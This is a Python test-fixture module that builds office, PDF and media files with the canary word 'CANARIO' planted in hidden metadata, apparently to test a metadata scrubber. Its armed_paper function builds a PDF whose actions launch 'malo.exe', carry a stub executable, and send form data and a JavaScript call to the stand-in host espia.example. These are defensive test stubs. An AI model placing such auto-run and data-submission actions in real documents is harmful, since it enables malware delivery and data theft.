"""Files with one invented word in every place that a person does not see; no copy may hold it."""

import struct
from fractions import Fraction
from io import BytesIO

import av
import pikepdf
from pikepdf import Dictionary, Name
from PIL import Image

from amparo.evidence.media.tests import samples

C = "CANARIO"
SEEN = "a la vista"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_CORE = f"<a><creator>{C}</creator><lastModifiedBy>{C}</lastModifiedBy></a>"


_OF_A_DOCUMENT = (
    *("docProps/custom.xml", "word/people.xml", "word/glossary/document.xml"),
    *("customXml/item1.xml", "word/commentsIds.xml", "word/x.xml"),
)
_PROGRAMS = ("word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/printerSettings1.bin")


def document():
    """A DOCX: changes, comments, hidden words, fields, names of drawings, settings, programs, embedded files."""
    when = 'w:date="2026-01-01T00:00:00Z"'
    body = f"""<?xml version="1.0"?><!-- {C} --><?mso {C}?><w:document xmlns:w="{_W}" xmlns:r="{_R}"
xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" xmlns:d="d"><w:body>
<w:p w:rsidR="00{C}" w14:paraId="{C}"><w:r><w:t>{SEEN}</w:t></w:r></w:p>
<w:p><w:ins w:id="1" w:author="{C}" w:initials="{C}" {when}><w:r><w:t>agregado</w:t></w:r></w:ins> detrás</w:p>
<w:p><w:del w:id="2" w:author="{C}" {when}><w:r><w:delText>{C}</w:delText></w:r></w:del></w:p>
<w:tbl><w:tr><w:trPr><w:del w:id="3" w:author="{C}" {when}/></w:trPr><w:tc><w:p>{C}</w:p></w:tc></w:tr></w:tbl>
<w:p><w:moveFrom w:id="4" w:author="{C}"><w:r><w:t>{C}</w:t></w:r></w:moveFrom></w:p>
<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{C}</w:t></w:r></w:p>
<w:sdt><w:sdtPr><w:alias w:val="{C}"/><w:tag w:val="{C}"/><w:dataBinding w:storeItemID="{C}"/></w:sdtPr></w:sdt>
<w:p><w:fldSimple w:instr=" AUTHOR {C} "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:instrText>INCLUDEPICTURE "C:\\{C}.jpg"</w:instrText></w:r></w:p>
<w:p><w:bookmarkStart w:id="9" w:name="{C}"/>
<w:commentRangeStart w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>
<w:p><d:docPr id="1" name="{C}" descr="C:\\Users\\{C}\\foto.jpg"/></w:p></w:body></w:document>"""
    settings = f"""<w:settings xmlns:w="{_W}" xmlns:r="{_R}"><w:rsids><w:rsidRoot w:val="{C}"/></w:rsids>
<w:attachedTemplate r:id="r9"/><w:docVars><w:docVar w:name="{C}" w:val="{C}"/></w:docVars><w:mailMerge>
<w:query w:val="{C}"/></w:mailMerge><w:documentProtection w:hash="{C}"/><w:defaultTabStop w:val="720"/></w:settings>"""
    comment = f'<w:comments xmlns:w="{_W}"><w:comment w:author="{C}"><w:p>{C}</w:p></w:comment></w:comments>'
    return samples.parcel(
        {
            "[Content_Types].xml": _TYPES,
            "docProps/core.xml": _CORE,
            "docProps/thumbnail.jpeg": samples.photo(),
            "word/document.xml": body,
            "word/comments.xml": comment,
            "word/settings.xml": settings,
            "word/media/image1.jpeg": samples.photo(),
            **dict.fromkeys(_OF_A_DOCUMENT, f"<a b='{C}'>{C}</a>"),
            **dict.fromkeys(_PROGRAMS, C),
        }
    )


def sheet():
    """An XLSX: who shares it, where it lay, comments, threads, connections, pivot tables, a hidden name."""
    book = f"""<workbook xmlns="{_X}" xmlns:r="{_R}"><fileVersion lastEdited="7" rupBuild="{C}"/>
<fileSharing userName="{C}"/><workbookPr codeName="{C}"/><absPath url="C:\\Users\\{C}\\"/><sheets>
<sheet name="Hoja1" sheetId="1" r:id="r1"/><sheet name="Hoja2" sheetId="2" state="veryHidden" r:id="r2"/></sheets>
<definedNames><definedName name="x" hidden="1">{C}</definedName></definedNames></workbook>"""
    cells = f'<worksheet xmlns="{_X}"><sheetData><row><c><v>{SEEN}</v></c></row></sheetData></worksheet>'
    hidden = ("comments1", "threadedComments/threadedComment1", "persons/person", "connections")
    hidden += ("externalLinks/externalLink1", "pivotCache/pivotCacheRecords1", "queryTables/q1")
    return samples.parcel(
        {
            "[Content_Types].xml": _TYPES,
            "docProps/core.xml": _CORE,
            "xl/workbook.xml": book,
            "xl/worksheets/sheet1.xml": cells,
            **{f"xl/{name}.xml": f"<a author='{C}'>{C}</a>" for name in hidden},
        }
    )


def slides():
    """A PPTX: who commented, what was said to the speaker, who changed it, a film."""
    slide = f'<p:sld xmlns:p="{_P}" show="0"><p:cNvPr name="{C}" descr="D:/{C}.png"/><a>{SEEN}</a></p:sld>'
    hidden = ("commentAuthors", "authors", "comments/modernComment_1", "notesSlides/notesSlide1")
    hidden += ("tags/tag1", "changesInfos/changesInfo1", "revisionInfo")
    return samples.parcel(
        {
            "[Content_Types].xml": _TYPES,
            "docProps/core.xml": _CORE,
            "ppt/presentation.xml": f'<p:p xmlns:p="{_P}"><p:modifyVerifier hashData="{C}"/></p:p>',
            "ppt/slides/slide1.xml": slide,
            "ppt/media/video1.mp4": C,
            **{f"ppt/{name}.xml": f"<a name='{C}' userId='{C}'>{C}</a>" for name in hidden},
        }
    )


def open_document():
    """An ODT: changes, notes in the margin, fields, hidden words, earlier versions, its printer."""
    office, text = (
        f"urn:oasis:names:tc:opendocument:xmlns:{one}:1.0" for one in ("office", "text")
    )
    content = f"""<o:document-content xmlns:o="{office}" xmlns:t="{text}" xmlns:dc="http://purl.org/dc/elements/1.1/"
xmlns:x="http://www.w3.org/1999/xlink" xmlns:d="d"><t:tracked-changes><t:deletion><dc:creator>{C}</dc:creator>
<t:p>{C}</t:p></t:deletion></t:tracked-changes><t:p>{SEEN}<o:annotation><dc:creator>{C}</dc:creator><t:p>{C}</t:p>
</o:annotation><t:author-name>{C}</t:author-name><t:file-name>{C}</t:file-name><t:a x:href="file:///home/{C}/x">l</t:a>
<t:user-defined t:name="{C}">{C}</t:user-defined><t:hidden-text t:string-value="{C}"/><d:frame d:name="{C}"/></t:p>
</o:document-content>"""
    hidden = (
        "meta.xml",
        "settings.xml",
        "manifest.rdf",
        "VersionList.xml",
        "META-INF/documentsignatures.xml",
    )
    return samples.parcel(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "META-INF/manifest.xml": '<m:manifest xmlns:m="m"/>',
            "Thumbnails/thumbnail.png": samples.screenshot(),
            "Versions/Version1": C,
            **dict.fromkeys(hidden, f"<a><creator>{C}</creator></a>"),
        }
    )


def paper():
    """A PDF: a signature's name and place, a picture with its camera, layers of metadata, a form's program."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(300, 200)).obj
    picture = pdf.make_stream(samples.photo().replace(b"Camara Imag", b"CANARIO ima"))
    picture.Type, picture.Subtype, picture.Filter = (
        Name.XObject,
        Name.Image,
        pikepdf.Array([Name.DCTDecode]),
    )
    picture.Width, picture.Height, picture.ColorSpace, picture.BitsPerComponent = (
        400,
        300,
        Name.DeviceRGB,
        8,
    )
    picture.Metadata = pdf.make_stream(C.encode())
    page.Resources = Dictionary(XObject=Dictionary(P=picture))
    page.Contents = pdf.make_stream(b"q 100 0 0 100 0 0 cm /P Do Q")
    page.PieceInfo = Dictionary(X=Dictionary(Private=C))
    signature = Dictionary(
        Type=Name.Sig, Name=C, Location=C, Reason=C, ByteRange=[0, 1, 2, 3], Contents=C
    )
    field = Dictionary(FT=Name.Sig, T="firma", V=pdf.make_indirect(signature), Subtype=Name.Widget)
    pdf.Root.AcroForm = Dictionary(
        Fields=[pdf.make_indirect(field)], XFA=pdf.make_stream(C.encode())
    )
    pdf.docinfo["/Author"] = C
    out = BytesIO()
    pdf.save(out)
    return out.getvalue()


def armed_paper():
    """A PDF that starts a program, sends what is typed, runs a script when a page is seen, and carries a program."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page().obj
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F="malo.exe")
    pdf.attachments["malo.exe"] = b"MZ malo"
    sends = Dictionary(S=Name.SubmitForm, F="http://espia.example")
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=sends)
    page.Annots = pikepdf.Array([pdf.make_indirect(link)])
    page.AA = Dictionary(
        O=Dictionary(S=Name.JavaScript, JS="app.launchURL('http://espia.example')")
    )
    out = BytesIO()
    pdf.save(out)
    return out.getvalue()


def recording(kind, picture=None, sound=None, **options):
    """A container of this kind with tags of the whole, of its streams, and the place in both forms of telephones."""
    out = BytesIO()
    with av.open(out, "w", format=kind, options=options) as made:
        tags = ("artist", "title", "comment", "make", "com.apple.quicktime.author", "copyright")
        made.metadata.update({**dict.fromkeys(tags, C), "location": "-13.5-071.9/", "date": "2026"})
        streams = [
            made.add_stream(one, rate=rate) for one, rate in ((picture, 10), (sound, 48000)) if one
        ]
        for stream in streams:
            stream.metadata["title"] = stream.metadata["handler_name"] = C
        if picture:
            streams[0].width, streams[0].height, streams[0].pix_fmt = 160, 120, "yuv420p"
        for number in range(5):
            for stream in streams:
                made.mux(stream.encode(_frame(stream, number)))
        for stream in streams:
            made.mux(stream.encode(None))
    return out.getvalue()


def _frame(stream, number):
    if stream.type == "video":
        frame = av.VideoFrame.from_image(Image.new("RGB", (160, 120), "white"))
        frame.pts, frame.time_base = number, Fraction(1, 10)
        return frame
    frame = av.AudioFrame(format="s16", layout="mono", samples=1024)
    frame.planes[0].update(b"\0\x30" * 1024)
    frame.sample_rate, frame.pts, frame.time_base = 48000, number * 1024, Fraction(1, 48000)
    return frame


def id3():
    """ID3v2.3 with a person, a comment, a private field, an embedded object and a cover that has its own camera."""
    parts = {b"TPE1": b"\0", b"COMM": b"\0spa\0", b"PRIV": b"x\0", b"GEOB": b"\0a\0b\0c\0"}
    frames = [_id3_frame(name, before + C.encode()) for name, before in parts.items()]
    frames.append(_id3_frame(b"APIC", b"\0image/jpeg\0\3\0" + samples.photo()))
    body = b"".join(frames)
    size = bytes(len(body) >> shift & 127 for shift in (21, 14, 7, 0))
    return b"ID3\3\0\0" + size + body


def _id3_frame(name, content):
    return name + struct.pack(">I", len(content)) + b"\0\0" + content


def mp4():
    """With tags of telephones, a box of XMP, an empty box that is not, and words behind its end."""
    xmp = bytes.fromhex("be7acfcb97a942e89c71999491e3afac") + C.encode()
    boxes = b"".join(
        struct.pack(">I", 8 + len(b)) + k + b for k, b in ((b"uuid", xmp), (b"free", C.encode()))
    )
    return recording("mp4", "libx264", "aac", movflags="use_metadata_tags") + boxes + C.encode()


def wav():
    chunks = {b"bext": C.encode().ljust(602, b"\0"), b"iXML": C.encode() + b"\0", b"id3 ": id3()}
    whole = recording("wav", sound="pcm_s16le")
    for name, content in chunks.items():
        whole += name + struct.pack("<I", len(content)) + content + b"\0" * (len(content) % 2)
    return whole[:4] + struct.pack("<I", len(whole) - 8) + whole[8:]


def mp3():
    whole = recording("mp3", sound="libmp3lame")
    return id3() + whole[whole.find(b"\xff\xfb") :] + b"TAG" + C.encode().ljust(125, b" ")


def flac():
    whole, photo = recording("flac", sound="flac"), samples.photo()
    told = struct.pack(">II", 3, 10) + b"image/jpeg" + struct.pack(">I", len(C)) + C.encode()
    told += struct.pack(">IIIII", 1, 1, 24, 0, len(photo)) + photo
    block = bytes([6]) + len(told).to_bytes(3, "big") + told
    return whole[:42] + block + whole[42:]


FILES = {
    "a document": document,
    "a sheet": sheet,
    "slides": slides,
    "an OpenDocument": open_document,
    "a paper": paper,
    "a video of a telephone": mp4,
    "a video of another": lambda: recording("mov", "libx264", "aac"),
    "a video for the web": lambda: recording("webm", "libvpx", "libopus"),
    "an old video": lambda: recording("avi", "mpeg4", "libmp3lame"),
    "a broadcast": lambda: recording("mpegts", "libx264", "aac"),
    "a song": mp3,
    "a sound of a recorder": wav,
    "a sound without loss": flac,
    "a message of voice": lambda: recording("ogg", sound="libopus"),
    "a sound with a cover": lambda: id3() + recording("adts", sound="aac"),
}
